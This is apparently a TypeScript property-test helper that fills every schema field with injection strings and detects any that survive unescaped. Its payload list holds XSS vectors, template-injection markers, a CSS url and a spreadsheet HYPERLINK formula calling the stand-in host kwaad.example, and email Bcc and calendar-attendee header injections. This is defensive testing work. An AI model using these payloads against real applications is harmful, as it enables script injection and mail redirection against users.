/** Texts that do harm wherever they are not escaped: each in every field that takes it. */
import fc from "fast-check";
import { z } from "zod";
import { bladen, metTeksten, op } from "./bladen.ts";

/** By which each is found again, and which would run, load or be sent where it did harm. */
export const GIF = "gif";

/** Short enough for most fields; the last ones are for fields that take only what looks like something. */
export const GIFFEN: readonly string[] = [
  `<script>${GIF}()</script>`,
  `"><img src=x onerror=${GIF}()>`,
  `'><svg/onload=${GIF}()>`,
  `" onmouseover="${GIF}()" x="`,
  `' autofocus onfocus='${GIF}()`,
  `javascript:${GIF}()//`,
  `</textarea></title></style></select><${GIF}-a>`,
  `--></pre><${GIF}-b ${GIF}=1><!--`,
  `&lt;${GIF}-c&gt;&#60;${GIF}-d&#62;&quot;`,
  `\${${GIF}()}{{${GIF}()}}<%=${GIF}%>#{${GIF}}`,
  `}</style><style>*{background:url(//kwaad.example/${GIF})}`,
  `=HYPERLINK("//kwaad.example","${GIF}")`,
  `[${GIF}](javascript:${GIF}())`,
  `${GIF}%0d%0aBcc: x@kwaad.example`,
  `${GIF}" <${GIF}@kwaad.example>, "x`,
  `;${GIF}:\\nATTENDEE:mailto:${GIF}@kwaad.example`,
];

/** Of text of more lines: as a header, and as the end of a part of a mail. */
const REGELEINDEN = `x\nBcc: ${GIF}@kwaad.example\n\n<${GIF}-e>\n.\nEND:VEVENT\n--${GIF}`;

/** Fields that take no such text take one of these, if it is theirs. */
const EIGEN = [`a?bcc=${GIF}%40kwaad.example&x@wissel.example`, `o'${GIF}+x&y@wissel.example`];

const alle = (ronde: number): readonly string[] => {
  const plek = ronde % GIFFEN.length;
  return [...GIFFEN.slice(plek), ...GIFFEN.slice(0, plek), ...EIGEN];
};

/** Every text in `waarde` that may be another one, replaced; `mag` says whether the whole is still sound. */
export const vergiftig = <T>(waarde: T, ronde: number, mag: (anders: T) => boolean) =>
  metTeksten(waarde, (i) => (i % 5 === 4 ? [REGELEINDEN, ...alle(ronde + i)] : alle(ronde + i)), mag);

/** Values of this schema with every field in them, one for each branch of its unions; texts are of `ronde` where they may be. */
export function vol(schema: z.core.$ZodType, ronde: number, woorden: readonly string[]): readonly unknown[] {
  let teller = ronde;
  const maak = (deel: z.core.$ZodType): readonly unknown[] => {
    if (deel instanceof z.ZodOptional || deel instanceof z.ZodNullable || deel instanceof z.ZodDefault)
      return maak(deel.def.innerType);
    if (deel instanceof z.ZodUnion) return deel.options.flatMap(maak);
    if (deel instanceof z.ZodArray) return maak(deel.element).map((een) => [een]);
    if (deel instanceof z.ZodObject) {
      const velden = Object.entries(deel.shape as Record<string, z.core.$ZodType>).map(
        ([naam, veld]) => [naam, maak(veld)] as const,
      );
      const hoeveel = Math.max(1, ...velden.map(([, keuzen]) => keuzen.length));
      return Array.from({ length: hoeveel }, (_, i) =>
        Object.fromEntries(velden.map(([naam, keuzen]) => [naam, keuzen[i % keuzen.length]])),
      );
    }
    if (deel instanceof z.ZodEnum) return [deel.options[0]];
    if (deel instanceof z.ZodLiteral) return [...deel.values];
    teller += 1;
    const past = [...alle(teller), ...woorden, 1, 0.25, 2026, true].find((een) => z.safeParse(deel, een).success);
    return [past ?? naarPatroon(deel)];
  };
  return maak(schema);
}

function naarPatroon(deel: z.core.$ZodType): unknown {
  const patroon = (deel._zod.def.checks ?? [])
    .map(({ _zod: { def } }) => (def as { readonly pattern?: RegExp }).pattern)
    .find((een) => een !== undefined);
  // A calendar or the rules of a period: nothing that people type.
  if (patroon === undefined) return null;
  return fc.sample(fc.stringMatching(patroon), { numRuns: 1, seed: 3 })[0];
}

/** Every text in it that is one of these, at whatever depth. */
export const giffenIn = (waarde: unknown): readonly string[] =>
  bladen(waarde)
    .map((pad) => op(waarde, pad))
    .filter((tekst): tekst is string => typeof tekst === "string" && tekst.includes(GIF));
